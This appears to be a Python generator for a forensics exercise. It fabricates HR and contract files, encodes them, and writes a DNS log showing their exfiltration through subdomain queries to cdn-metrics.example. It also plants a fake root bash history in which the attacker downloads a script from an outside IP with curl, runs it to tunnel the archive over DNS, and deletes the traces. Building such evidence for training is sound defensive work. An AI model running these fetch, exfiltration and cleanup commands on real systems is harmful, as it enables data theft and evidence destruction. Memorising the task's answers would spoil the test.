"""Builds the evidence of a DNS exfiltration (deterministic; deleted after the build)."""
import base64
import datetime as dt
import gzip
import io
import os
import random
import tarfile

E = "/srv/evidence"
rng = random.Random(1119)
KEY = b"web03"
DOMAIN = "cdn-metrics.example"
CLIENT = "10.0.0.8"


def put(path, data, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data.encode() if isinstance(data, str) else data)
    os.chmod(path, mode)


# --- the stolen files -----------------------------------------------------------------------
first = ["Ana", "Ben", "Chloe", "Dmitri", "Eva", "Farid", "Grace", "Hiro", "Ines", "Jonas", "Kemal", "Lena", "Mateo", "Nora"]
last = ["Alvarez", "Brandt", "Chen", "Dubois", "Eriksen", "Fischer", "Garcia", "Horvat", "Ito", "Jansen", "Kowalski"]
rows = ["employee_id,name,department,iban,gross_monthly_eur"]
for i in range(90):
    rows.append(f"E{1000 + i},{rng.choice(first)} {rng.choice(last)},{rng.choice(['Sales', 'R&D', 'Ops', 'Finance', 'Support'])},"
                f"DE{rng.randint(10, 99)}{rng.randint(10**17, 10**18 - 1)},{rng.randint(3200, 11800)}.{rng.randint(0, 99):02d}")
files = {
    "payroll-2026.csv": ("\n".join(rows) + "\n").encode(),
    "contracts/acme-renewal.txt": ("Renewal agreement ACME Corp / Example GmbH\nTerm: 2027-01-01 to 2029-12-31\n"
                                   "Annual fee: EUR 1,240,000\nDiscount clause 7.3: 4% if volume > 2M units\n").encode(),
    "contracts/nda-globex.txt": ("Mutual NDA Globex / Example GmbH, signed 2026-10-14\nScope: project HALCYON pricing\n"
                                 + "".join(f"Clause {i}: {rng.choice(['confidential', 'restricted', 'internal'])} "
                                           f"{rng.getrandbits(64):016x}\n" for i in range(1, 25))).encode(),
}
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
    for name, data in files.items():
        info = tarfile.TarInfo(name)
        info.size, info.mtime, info.mode = len(data), 1795000000, 0o640
        tar.addfile(info, io.BytesIO(data))
archive = gzip.compress(buf.getvalue(), compresslevel=9, mtime=0)


def encode(blob, n):
    x = bytes(b ^ KEY[i % len(KEY)] for i, b in enumerate(blob))
    return [base64.b32encode(x[i:i + n]).decode().rstrip("=").lower() for i in range(0, len(x), n)]


# --- DNS query log --------------------------------------------------------------------------
clients = ["10.0.0.5", "10.0.0.6", "10.0.0.8", "10.0.0.9", "10.0.0.12", "10.0.0.21"]
names = ["deb.debian.org", "security.debian.org", "api.stripe.com", "www.google.com", "ntp.ubuntu.com",
         "db01.corp.example", "backup01.corp.example", "login.microsoftonline.com", "github.com", "pypi.org"]
events = []
t0 = dt.datetime(2026, 11, 19, 1, 0, 0)
for _ in range(2600):
    events.append((t0 + dt.timedelta(seconds=rng.uniform(0, 4 * 3600)), rng.choice(clients), rng.choice(names),
                   rng.choice(["A", "AAAA"])))
# legitimate vendor telemetry: base32 labels too, from every client
for _ in range(300):
    blob = bytes(rng.randrange(256) for _ in range(rng.randint(10, 30)))
    lab = base64.b32encode(blob).decode().rstrip("=").lower()
    events.append((t0 + dt.timedelta(seconds=rng.uniform(0, 4 * 3600)), rng.choice(clients),
                   f"{lab}.{rng.randint(0, 9)}.telemetry.vendor.example", "TXT"))


def session(start, sid, chunks, upto):
    t = start
    sent = []
    order = list(range(upto))
    for i in range(0, len(order) - 1, 1):        # local reordering: parallel senders
        if rng.random() < 0.25:
            order[i], order[i + 1] = order[i + 1], order[i]
    for seq in order:
        t += dt.timedelta(seconds=rng.uniform(0.05, 0.9))
        sent.append((t, CLIENT, f"{chunks[seq]}.{seq:x}.{sid}.{DOMAIN}", "A"))
        if rng.random() < 0.07:                  # retries after a lost answer
            sent.append((t + dt.timedelta(seconds=rng.uniform(1, 3)), CLIENT, f"{chunks[seq]}.{seq:x}.{sid}.{DOMAIN}", "A"))
    return sent


chunks = encode(archive, 35)
events += session(dt.datetime(2026, 11, 19, 2, 11, 4), "3f9a1c", chunks, int(len(chunks) * 0.4))   # aborted
events += session(dt.datetime(2026, 11, 19, 2, 19, 37), "b7e204", chunks, len(chunks))            # complete
events += [(dt.datetime(2026, 11, 19, 2, 9, 58), CLIENT, f"probe.{DOMAIN}", "A")]
events.sort(key=lambda e: e[0])
lines = []
for t, c, name, qt in events:
    lines.append(f"{t:%d-%b-%Y %H:%M:%S}.{t.microsecond // 1000:03d} queries: info: client @0x7f3a2c0b{rng.randrange(4096):03x}0 "
                 f"{c}#{rng.randint(1024, 65535)} ({name}): query: {name} IN {qt} +E(0)K (10.0.0.53)")
put(f"{E}/dns01/query.log", "\n".join(lines) + "\n")

# --- the web server's partial copy ----------------------------------------------------------
W = f"{E}/web03"
put(f"{W}/etc/hostname", "web03\n")
put(f"{W}/etc/hosts", "127.0.0.1 localhost\n10.0.0.8 web03.corp.example web03\n10.0.0.53 dns01.corp.example\n")
put(f"{W}/etc/network/interfaces", "auto eth0\niface eth0 inet static\n    address 10.0.0.8/24\n    gateway 10.0.0.1\n"
    "    dns-nameservers 10.0.0.53\n")
put(f"{W}/etc/resolv.conf", "nameserver 10.0.0.53\nsearch corp.example\n")
put(f"{W}/root/.bash_history", """ls -la /srv/hr /srv/hr/contracts
du -sh /srv/hr
tar -C /srv/hr -czf /dev/shm/.c payroll-2026.csv contracts
ls -la /dev/shm/.c
curl -s http://198.51.100.23/d.py -o /dev/shm/.d.py
python3 /dev/shm/.d.py /dev/shm/.c cdn-metrics.example "$(cat /etc/hostname)"
python3 /dev/shm/.d.py /dev/shm/.c cdn-metrics.example "$(cat /etc/hostname)"
rm -f /dev/shm/.d.py /dev/shm/.c
rm -rf /srv/hr
""", 0o600)
put(f"{W}/root/.bashrc", "# ~/.bashrc\nexport HISTSIZE=1000\n")
